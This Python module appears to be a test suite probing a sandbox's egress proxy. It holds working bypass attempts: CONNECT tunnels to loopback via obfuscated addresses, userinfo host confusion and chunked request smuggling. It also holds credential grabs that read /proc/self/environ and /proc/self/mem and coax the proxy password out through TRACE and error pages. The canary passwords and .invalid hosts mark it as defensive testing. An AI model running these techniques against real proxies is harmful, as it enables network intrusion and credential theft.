"""The proxy of the machine: its password, and what it reaches that the tool does not."""

from __future__ import annotations

import base64
import os
import re
import socket
import urllib.parse
import urllib.request

from ..table import REACHED, STOLEN, WORD, NothingFound, attack

_SECONDS = 5.0
_ONE_HOST = "network = ['api.invalid:443', 'api.invalid:80']"
_NONE = "network = []"
_VARIABLES = ("HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy", "ALL_PROXY", "all_proxy")
_PASSWORD = re.compile(rb"canary-proxy-[0-9a-f]{24}")
_TOKEN = re.compile(rb"[A-Za-z0-9+/]{24,}={0,2}")


@attack(REACHED, grants=_ONE_HOST)
def tunnel_to_loopback_by_the_proxy(scene):
    """Has the proxy connect to 127.0.0.1, where it may reach one host."""
    return _tunnel(f"127.0.0.1:{scene['port']}", scene)


@attack(REACHED, grants=_ONE_HOST)
def tunnel_to_localhost_by_the_proxy(scene):
    """Has the proxy connect to localhost, where it may reach one host."""
    return _tunnel(f"LOCALHOST.:{scene['port']}", scene)


@attack(REACHED)
def tunnel_to_a_number_by_the_proxy(scene):
    """Has the proxy connect to 2130706433, which is 127.0.0.1, where it may reach the public web."""
    return _tunnel(f"2130706433:{scene['port']}", scene)


@attack(REACHED)
def tunnel_to_its_own_network_by_the_proxy(scene):
    """Has the proxy connect to this machine by the address that it has in its own network."""
    if not scene["lan"]:
        raise NothingFound("this machine has no such address")
    return _tunnel(f"{scene['lan']}:{scene['port']}", scene)


@attack(REACHED, grants=_ONE_HOST)
def page_of_loopback_by_the_proxy(scene):
    """Requests a page of 127.0.0.1 from the proxy, where it may reach one host."""
    with urllib.request.urlopen(f"http://127.0.0.1:{scene['port']}/{scene['mark']}", timeout=_SECONDS) as answer:
        return f"HTTP {answer.status}"


@attack(REACHED, grants=_ONE_HOST)
def page_of_another_host_behind_a_good_request(scene):
    """Requests the page of a host that it may reach, and on the same connection one of 127.0.0.1."""
    body = f"GET http://127.0.0.1:{scene['port']}/ HTTP/1.1\r\nHost: api.invalid\r\n\r\n"
    head = f"POST http://api.invalid/ HTTP/1.1\r\nHost: api.invalid\r\nContent-Length: {len(body)}\r\n"
    return _refused(_ask(f"{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{body}"))


@attack(REACHED, grants=_ONE_HOST)
def host_behind_a_user_name(scene):
    """Requests http://api.invalid:80@127.0.0.1/, which names the one host and another."""
    return _refused(_ask(f"GET http://api.invalid:80@127.0.0.1:{scene['port']}/ HTTP/1.1\r\nHost: api.invalid\r\n\r\n"))


@attack(WORD)
def connection_to_the_proxy_itself(scene):
    """Connects to the proxy, past what stands before it."""
    with socket.create_connection(("127.0.0.1", scene["proxy_port"]), _SECONDS) as connection:
        return f"connected to {connection.getpeername()}"


@attack(STOLEN)
def password_of_the_proxy_in_the_environment(scene):
    """Reads the proxy's password from the variables that name it, as Python, C and the kernel have them."""
    with open("/proc/self/environ", "rb") as block:
        return _passwords(repr(dict(os.environ)).encode() + block.read())


@attack(STOLEN)
def password_of_the_proxy_in_memory(scene):
    """Searches all of its own memory for the proxy's password."""
    return _passwords_in_memory()


@attack(STOLEN, grants=_NONE)
def password_of_the_proxy_without_a_network(scene):
    """Searches its environment and memory for the proxy's password, where it has no network."""
    return _passwords_in_memory()


@attack(STOLEN, grants="environment = ['HTTPS_PROXY', 'https_*']")
def password_of_the_proxy_as_a_variable_of_its_own(scene):
    """Reads the proxy's password, where the admin has given it the variable by its name."""
    return password_of_the_proxy_in_the_environment(scene)


@attack(STOLEN, grants="network = ['api.invalid:80', 'variable:HTTPS_PROXY']")
def password_of_the_proxy_by_a_variable_that_names_a_host(scene):
    """Searches its memory for the proxy's password, where its network is what the variable names."""
    return _passwords_in_memory()


@attack(STOLEN, grants=_ONE_HOST)
def password_of_the_proxy_by_trace(scene):
    """Has the proxy answer with the request as it has got it, with the password that was added to it."""
    return _told(_ask("TRACE http://api.invalid/ HTTP/1.1\r\nHost: api.invalid\r\nMax-Forwards: 0\r\n\r\n"))


@attack(STOLEN, grants=_ONE_HOST)
def password_of_the_proxy_in_a_page_of_an_error(scene):
    """Looks for the password in the page by which the proxy says that it does not find a host."""
    return _told(_ask("GET http://api.invalid/ HTTP/1.1\r\nHost: api.invalid\r\nConnection: close\r\n\r\n"))


@attack(STOLEN, grants=_ONE_HOST)
def password_of_the_proxy_in_an_error_of_a_tunnel(scene):
    """Looks for the password in what the proxy says of a tunnel that it cannot open."""
    return _told(_ask("CONNECT api.invalid:443 HTTP/1.1\r\nHost: api.invalid:443\r\n\r\n"))


def _proxy():
    named = next(filter(None, map(os.environ.get, _VARIABLES)), None)
    if named is None:
        raise NothingFound("no variable names a proxy")
    return urllib.parse.urlsplit(named)


def _ask(request):
    """Send a request to what stands for the proxy, with all that is known of the login."""
    proxy = _proxy()
    login = f"{proxy.username}:{proxy.password}" if proxy.username else ""
    if login:
        line, rest = request.split("\r\n", 1)
        token = base64.b64encode(login.encode()).decode()
        request = f"{line}\r\nProxy-Authorization: Basic {token}\r\n{rest}"
    with socket.create_connection((proxy.hostname, proxy.port), _SECONDS) as connection:
        connection.sendall(request.encode())
        connection.settimeout(_SECONDS)
        answer = b""
        while piece := connection.recv(65_536):
            answer += piece
            if request.startswith("CONNECT") and answer.startswith(b"HTTP/1.1 200"):
                break
    return answer


def _tunnel(authority, scene):
    answer = _ask(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n")
    return _refused(answer)


def _refused(answer):
    """What came; raises what an HTTP client would where it was refused."""
    line = answer.split(b"\r\n", 1)[0].decode("latin-1")
    if " 200 " not in line:
        raise OSError(f"Tunnel connection failed: {line.partition(' ')[2]}")
    return line


def _told(answer):
    """The password in an answer, plainly or in the form in which it is sent."""
    found = _PASSWORD.findall(answer)
    for token in _TOKEN.findall(answer):
        found += _PASSWORD.findall(base64.b64decode(token + b"=" * (-len(token) % 4), validate=False))
    return _passwords(b" ".join(found))


def _passwords(data):
    found = _PASSWORD.findall(data)
    if not found:
        raise NothingFound("no password is there")
    return b" ".join(set(found)).decode()


def _passwords_in_memory():
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps.readlines():
            limits, rights, *_ = line.split()
            start, end = (int(limit, 16) for limit in limits.split("-"))
            if "rw" in rights:
                try:
                    memory.seek(start)
                    found += _PASSWORD.findall(memory.read(end - start))
                except (OSError, OverflowError, ValueError):
                    continue
    return _passwords(b" ".join(found))
